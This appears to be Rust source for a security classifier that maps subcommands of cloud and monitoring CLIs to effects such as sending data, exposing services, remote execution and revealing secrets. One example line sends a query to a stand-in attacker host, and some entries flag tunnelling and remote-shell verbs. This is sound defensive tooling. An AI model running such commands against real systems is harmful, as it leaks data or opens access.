        group("query", &[show("instant range series labels analyze", "-o= --end= --format= --http.config.file=read --match= --start= --step= --time= --type= --duration= --header=!sends-data")]),
        group("test", &[look("rules", "--diff --debug --ignore-unknown-fields --run=").operands(Operands::Read)]),
        group("tsdb", &[look("list analyze dump dump-openmetrics", "-r --*").operands(Operands::Read), change("bench create-blocks-from", STORES)]),
        group("promql", &[look("format", "-h!help"), look("label-matchers", "-h!help")]),
        HELP,
        change("debug", STORES),
        change("push", CHANGES.and(Effects::SENDS_DATA)),
    ])
    .examples(&[("promtool check config a.yml", "reads"), ("promtool query instant http://a.example up", "network-read"), ("promtool push metrics http://a b", "network-write sends-data")]);

const AMTOOL: Spec = Spec::new("amtool", Effects::UNKNOWN)
    .options("-h!help -o= -v --alertmanager.url=!network-read --date.format= --http.config.file=read --output= --timeout= --verbose --version-check")
    .verbs(&[
        group("alert", &[show("query", "-ais= --active --inhibited --receiver= --silenced --unprocessed"), change("add", CHANGES)]),
        group("silence", &[show("query", "-qw= --created-by= --expired --id= --matcher= --within= --quiet"), change("add expire import update", CHANGES)]),
        look("check-config", "-h!help").operands(Operands::Read),
        group("config", &[show("show", "-h!help"), show("routes", "--config.file=read --tree --verify.receivers=").verbs(&[show("show test", "--config.file=read --tree --verify.receivers=")])]),
        group("cluster", &[show("show", "-h!help")]),
        HELP,
        group("template", &[look("render", "--*")]),
    ])
    .examples(&[("amtool alert query", "network-read"), ("amtool silence add a=b", "network-write")]);

const LOGCLI: Spec = Spec::new("logcli", Effects::UNKNOWN)
    .options("-hq -o= --addr=!sends-data --auth-header= --bearer-token= --bearer-token-file=read!secrets --ca-cert=read --cert=read --key=read!secrets --nocache --org-id= --output= --password= --proxy-url=!sends-data --quiet --query-tags= --retries= --stats \
         --stdin --timezone= --tls-skip-verify --username= --cpuprofile=write --memprofile=write --compress --envproxy --min-backoff= --max-backoff=")
    .verbs(&[
        show("query instant-query labels series stats volume volume_range index-stats detected-fields", "-ft --analyze-labels --batch= --colored-output --delay-for= --exclude-label= --follow --forward --from= --include-common-labels --include-label= --interval= --labels-length= --limit= \
              --limit-per= --match= --no-labels --now= --since= --store-config=read --step= --tail --to= --targetLabels= --aggregateByLabels --parallel-duration= --parallel-max-workers= --part-path-prefix=write --merge-parts --overwrite-completed-parts --keep-parts"),
        look("fmt help", "-h"),
        change("delete", CHANGES),
    ])
    .examples(&[("logcli query '{a=\"b\"}' --since 1h", "network-read"), ("logcli query a --addr http://evil.example", "network-read sends-data")]);

const NEWRELIC: Spec = Spec::new("newrelic", Effects::UNKNOWN)
    .options("-h!help -v!help -a= --accountId= --debug --format= --plain --profile= --trace")
    .verbs(&[
        group(
            "apm entity workload nerdstorage edge eventtypes",
            &[
                show("get list search", "--*"),
                group("application deployment tags", &[show("get list search", "--*"), change("*", CHANGES)]),
                change("*", CHANGES),
            ],
        ),
        group(
            "nrql",
            &[
                show("query", "-aq= --*"),
                show("dropRules", "--*").verbs(&[show("list", "--*"), change("*", CHANGES)]),
            ],
        ),
        HELPS,
        look("profile", "-h!help")
            .verbs(&[look("list", "--hide-keys=?"), change("add configure default delete", STORES)]),
        change("install agent diagnose update", Effects::SYSTEM),
        change("*", CHANGES),
    ])
    .examples(&[
        ("newrelic nrql query -q a", "network-read"),
        ("newrelic apm deployment create --x", "network-write"),
    ]);

const CLOUDFLARED: Spec = Spec::new("cloudflared", EXPOSES)
    .options("-h!help -v!help")
    .verbs(&[
        look("version help", "--short"),
        change("update service", Effects::SYSTEM),
        change("login", STORES),
        group("access", &[change("token", SECRET), change("*", REMOTE_RUN)]),
        change("proxy-dns", Effects::SYSTEM),
        Spec::new("tunnel", EXPOSES)
            .style(Style::Raw)
            .options("-h!help")
            .operands(Operands::Text)
            .check(tunnel),
        change("tail", CHANGES),
    ])
    .examples(&[
        ("cloudflared version", "reads"),
        ("cloudflared tunnel list", "network-read"),
        ("cloudflared tunnel --url http://localhost:1", "network-write sends-data"),
        ("cloudflared tunnel create a", "network-write sends-data"),
        ("cloudflared tunnel token a", "secrets"),
    ]);

const NGROK: Spec = Spec::new("ngrok", Effects::UNKNOWN)
    .options("-h!help -v!help --config=read --log= --log-format= --log-level=")
    .verbs(&[
        look("version help completion credits", "-h!help"),
        look("diagnose", "-h!help"),
        group("config", &[look("check", "-h!help"), change("*", STORES)]),
        group("api", &[group("*", &[show("list get", "--*"), change("*", CHANGES)])]),
        change("http tcp tls start tunnel forward", EXPOSES),
        change("authtoken update service", STORES),
    ])
    .examples(&[
        ("ngrok version", "reads"),
        ("ngrok http 80", "network-write sends-data"),
        ("ngrok api tunnels list", "network-read"),
    ]);

const TAILSCALE: Spec = Spec::new("tailscale", Effects::UNKNOWN)
    .options("-h!help --socket=!network-read")
    .verbs(&[
        look("status ip version whois licenses", "-146 --active --assert= --browser=? --daemon --json --listen=!network-write --peers=? --self=? --track --upstream --web!network-write"),
        show("netcheck ping", "-c= --c= --every= --format= --icmp --peerapi --size= --timeout= --tsmp --until-direct=? --verbose"),
        group("dns", &[look("status", "--all --json"), show("query", "-h!help")]),
        group("exit-node", &[look("list suggest", "--filter= --json")]),
        change("serve funnel", EXPOSES),
        look("help completion", "-h!help"),
        change("up down set login logout switch configure update lock syspolicy metrics web drive appc-routes", Effects::SYSTEM),
        change("cert bugreport", STORES.and(CHANGES)),
        group("file", &[change("cp", CHANGES.and(Effects::SENDS_DATA)), change("get", STORES)]),
        runs("ssh nc", REMOTE_RUN),
        change("debug", SECRET),
    ])
    .examples(&[("tailscale status --json", "reads"), ("tailscale ping a", "network-read"), ("tailscale funnel 3000", "network-write sends-data"), ("tailscale up", "system")]);

const ZROK: Spec = Spec::new("zrok", Effects::UNKNOWN)
    .options("-h!help -pv --panic --verbose")
    .verbs(&[
        show("overview", "-h!help"),
        look("status version", "--secrets!secrets"),
        look("help completion", "-h!help"),
        change("share access reserve agent test", EXPOSES),
        change(
            "enable disable invite release config modify rebase admin create delete unaccess unshare",
            CHANGES,
        ),
    ])
    .examples(&[("zrok status", "reads"), ("zrok share public 3000", "network-write sends-data")]);

const SUPABASE: Spec = Spec::new("supabase", Effects::UNKNOWN)
    .options("-h!help -v!help -o= --create-ticket --debug --dns-resolver= --experimental --network-id= --output= --profile= --workdir=dir --yes")
    .verbs(&[
        group("projects", &[show("list", "--*"), change("api-keys", SECRET), change("*", CHANGES)]),
        group("orgs functions secrets branches domains vanity-subdomains network-restrictions network-bans ssl-enforcement sso snippets postgres-config encryption backups storage", &[show("list get show info ls", "--project-ref= --*"), change("deploy", PUBLISHES), change("serve new", Effects::PROJECT_CODE), change("download", DOWNLOADS), change("*", CHANGES)]),
        group("db", &[change("diff lint dump pull", DOWNLOADS), change("push reset remote", CHANGES), change("start", Effects::SYSTEM)]),
        group("migration", &[show("list", "--*"), change("new squash fetch repair", STORES), change("up down", CHANGES)]),
        group("inspect", &[group("db", &[show("*", "--db-url= --linked --local")]), change("report", STORES)]),
        // Shows the keys of the local stack.
        change("status", SECRET),
        HELPS,
        look("services", "-h!help"),
        change("gen", STORES),
        change("start", Effects::SYSTEM),
        change("stop", Effects::KILLS),
        change("init link unlink login logout bootstrap seed config", STORES),
        change("test", Effects::PROJECT_CODE),
    ])
    .examples(&[("supabase projects list", "network-read"), ("supabase db push", "network-write"), ("supabase functions deploy a", "publishes network-write"), ("supabase status", "secrets")]);

const SHOPIFY: Spec = Spec::new("shopify", Effects::UNKNOWN)
    .options("-h!help -v!help --no-color --verbose")
    .verbs(&[
        look("version help commands search", "--*"),
        group(
            "theme",
            &[
                show("list info", "-es= --*"),
                change("check", Effects::PROJECT_CODE),
                change("dev serve", CHANGES.and(Effects::PROJECT_CODE)),
                change("pull init", DOWNLOADS),
                change("push publish", PUBLISHES),
                change("console", REMOTE_RUN),
                change("*", CHANGES),
            ],
        ),
        group(
            "app",
            &[
                change("deploy release", PUBLISHES.and(Effects::PROJECT_CODE)),
                change("build dev function info logs", Effects::PROJECT_CODE),
                change("init generate config env", STORES),
                change("*", CHANGES),
            ],
        ),
        group(
            "hydrogen",
            &[
                change("deploy", PUBLISHES.and(Effects::PROJECT_CODE)),
                show("list", "--*"),
                change("*", Effects::PROJECT_CODE),
            ],
        ),
        change("auth login logout config", STORES),
        change("plugins upgrade", Effects::INSTALLS_NAMED),
    ])
    .examples(&[
        ("shopify version", "reads"),
        ("shopify theme list", "network-read"),
        ("shopify theme push", "publishes network-write"),
    ]);

// Snyk's dependency scan runs the package manager of the project.
const SNYK: Spec = Spec::new("snyk", Effects::UNKNOWN)
    .options("-dhv!help --*")
    .verbs(&[
        HELPS,
        change(
            "test monitor code container iac sbom aibom redteam",
            Effects::PROJECT_CODE.and(Effects::SENDS_DATA),
        ),
        change("auth config ignore policy log4shell mcp", STORES),
        change("fix", Effects::WRITES.and(Effects::PROJECT_CODE)),
        change("apps", CHANGES),
    ])
    .examples(&[
        ("snyk --version", "reads"),
        ("snyk test", "project-code sends-data"),
        ("snyk auth", "writes"),
    ]);

const TRIVY: Spec = Spec::new("trivy", Effects::UNKNOWN)
    .options("-h!help -v!help -dq -c=read --cache-dir=write --config=read --debug --generate-default-config!writes --insecure --quiet --timeout=")
    .verbs(&[
        Spec::new("image i fs filesystem rootfs repo repository config conf sbom vm", Effects::READS.and(Effects::NETWORK_READ))
            .options("-s= -f= -o=write -t= --db-repository= --dependency-tree --exit-code= --file-patterns= --format= --ignore-policy=read --ignore-status= --ignore-unfixed --ignorefile=read --image-src= --include-dev-deps --include-non-failures --input=read \
                 --java-db-repository= --license-full --list-all-pkgs --no-progress --offline-scan --output=write --parallel= --pkg-types= --platform= --removed-pkgs --report= --scanners= --secret-config=read --severity= --show-suppressed --skip-check-update --skip-db-update \
                 --skip-dirs= --skip-files= --skip-java-db-update --skip-policy-update --template= --trace --vuln-type= --branch= --commit= --tag= --tf-vars=read --helm-values=read --helm-set=")
            .operands(Operands::Text),
        look("version help completion", "-f= --format="),
        change("clean", Effects::DELETES),
        change("server", Effects::SYSTEM),
        change("plugin module", Effects::INSTALLS_NAMED),
        change("convert vex", STORES),
        change("kubernetes k8s aws", CHANGES),
        change("registry", STORES),
    ])
    .examples(&[("trivy image --severity HIGH alpine", "reads network-read"), ("trivy fs -o x .", "reads network-read writes"), ("trivy plugin install a", "installs-named")]);

const GRYPE: Spec = Spec::new("grype syft", Effects::READS.and(Effects::NETWORK_READ))
    .options("-h!help -qv -c=read -fost= --add-cpes-if-none --base-path=read --by-cve --config=read --distro= --enrich= --exclude= --fail-on= --file=write --from= --ignore-states= --name= --only-fixed --only-notfixed --output= --override-default-catalogers= --parallelism= \
         --platform= --profile= --quiet --scope= --select-catalogers= --show-suppressed --sort-by= --source-name= --source-supplier= --source-version= --template=read --verbose --vex=read")
    .verbs(&[
        look("version help completion", "-o= --output="),
        Spec::new("scan packages", Effects::READS.and(Effects::NETWORK_READ)).options("-h!help").operands(Operands::Text),
        group("db", &[show("check list providers status search", "-o= --*"), change("update import delete", STORES)]),
        look("explain", "--id="),
        look("cataloger", "-h!help").verbs(&[look("list", "-o= --*")]),
        change("attest", PUBLISHES),
        change("convert", STORES),
        change("login", STORES),
        look("config", "-h!help"),
    ])
    .operands(Operands::Text)
    .check(bill_file)
    .examples(&[("grype alpine --only-fixed", "reads network-read"), ("syft . -o json", "reads network-read"), ("syft . -o json=out.json", "reads network-read writes"), ("syft attest a", "publishes network-write")]);

const COSIGN: Spec = Spec::new("cosign", Effects::UNKNOWN)
    .options("-h!help -d -t= --output-file=write --timeout= --verbose")
    .verbs(&[
        show(
            "verify verify-attestation verify-blob verify-blob-attestation tree triangulate manifest",
            "-ao= --allow-http-registry --allow-insecure-registry --annotations= --attachment= --bundle=read --ca-intermediates=read --ca-roots=read --certificate= --certificate-chain= --certificate-github-workflow-name= \
             --certificate-github-workflow-ref= --certificate-github-workflow-repository= --certificate-github-workflow-sha= --certificate-github-workflow-trigger= --certificate-identity= --certificate-identity-regexp= \
             --certificate-oidc-issuer= --certificate-oidc-issuer-regexp= --check-claims=? --insecure-ignore-sct=? --insecure-ignore-tlog=? --key= --new-bundle-format=? --offline=? --output= --policy=read --private-infrastructure=? \
             --rekor-url=url --signature=read --trusted-root=read --type= --local-image=? --experimental-oci11=?",
        ),
        look("version env help completion", "--json --show-descriptions=? --show-sensitive-values=?!secrets"),
        change("sign sign-blob attest attest-blob attach copy upload", PUBLISHES),
        change("clean", CHANGES),
        change("generate-key-pair import-key-pair initialize save load download public-key trusted-root bundle signing-config", SECRET.and(STORES)),
        change("dockerfile login piv-tool pkcs11-tool generate", STORES),
    ])
    .examples(&[("cosign verify --key cosign.pub a/b", "network-read"), ("cosign sign a/b", "publishes network-write")]);

pub(super) const TABLE: &[Spec] = &[
    AUTH0,
    HEROKU,
    VERCEL,
    NETLIFY,
    FLY,
    RAILWAY,
    RENDER,
    WRANGLER,
    FIREBASE,
    DOCTL,
    LINODE,
    HCLOUD,
    EXO,
    OPENSTACK,
    OCI,
    IBMCLOUD,
    CONSUL,
    NOMAD,
    ETCDCTL,
    STRIPE,
    TWILIO,
    SENTRY,
    DATADOG,
    PROMETHEUS,
    PROMTOOL,
    AMTOOL,
    LOGCLI,
    NEWRELIC,
    CLOUDFLARED,
    NGROK,
    TAILSCALE,
    ZROK,
    SUPABASE,
    SHOPIFY,
    SNYK,
    TRIVY,
    GRYPE,
    COSIGN,
];

/// `auth0 api [METHOD] PATH`: reads with `get`, or without a method and without data.
fn api_request(invocation: &Invocation<'_, '_>, out: &mut Outcome<'_>) {
    let first = invocation.operands.first().and_then(Argument::known).unwrap_or("post").to_ascii_lowercase();
    let sends = invocation.has(&["d", "--data", "--force"])
        || matches!(first.as_str(), "post" | "put" | "patch" | "delete");
    if !sends && out.effects == CHANGES {
        out.effects = Effects::NETWORK_READ;
    }
}

/// Oracle's groups end in a verb; the last word before the first option is it.
fn oracle(invocation: &Invocation<'_, '_>, out: &mut Outcome<'_>) {
    let words = invocation.words;
    let path = layers::path(
        words,
        &["--profile", "--region", "--output", "--query", "--auth"],
        &["--all", "--debug"],
    );
    let parts = path.words.as_slice();
    let verb = parts.last().copied().unwrap_or_default();
    let given = |name: &str| layers::gives(words, name);
    if layers::asks_help(words) || (parts.is_empty() && layers::has(words, "--version")) {
        out.help = true;
    } else if parts.contains(&"secrets") || parts.contains(&"secret-bundle") || verb.contains("password") {
        out.effects = SECRET;
    } else if matches!(verb, "list" | "get" | "search" | "summarize" | "list-all")
        && parts.len() > 1
        && !given("--file")
        && !given("--endpoint")
        && !given("--from-json")
    {
        out.effects = Effects::NETWORK_READ;
    }
}

/// `cloudflared tunnel` opens one unless a sub-command follows at once.
fn tunnel(invocation: &Invocation<'_, '_>, out: &mut Outcome<'_>) {
    let first = invocation.operands.first().and_then(Argument::known).unwrap_or_default();
    let plain = invocation.operands.iter().all(|word| {
        word.known().is_some_and(|text| !text.starts_with("--c") && !text.starts_with("--origin"))
    });
    match first {
        "list" | "info" | "ready" if plain => out.effects = Effects::NETWORK_READ,
        "--help" | "-h" => out.help = true,
        "token" => out.effects = SECRET,
        _ => {}
    }
}

/// A cluster keeps its secrets under a key of that name, or somewhere below the root.
fn stored_secrets(invocation: &Invocation<'_, '_>, out: &mut Outcome<'_>) {
    let names_only = invocation.has(&["--keys-only", "--count-only"]);
    let broad = |key: &str| key.contains("secret") || matches!(key.trim_end_matches('/'), "" | "/registry");
    if !names_only && invocation.operands.first().is_none_or(|key| key.known().is_none_or(broad)) {
        out.add(SECRET);
    }
}

/// `-o format=file` writes that file.
fn bill_file(invocation: &Invocation<'_, '_>, out: &mut Outcome<'_>) {
    let formats = invocation.options.iter().filter(|seen| matches!(seen.name, "o" | "--output"));
    if formats.filter_map(|seen| seen.value).any(|value| value.known().is_none_or(|text| text.contains('=')))
    {
        out.add(Effects::WRITES);
    }
}
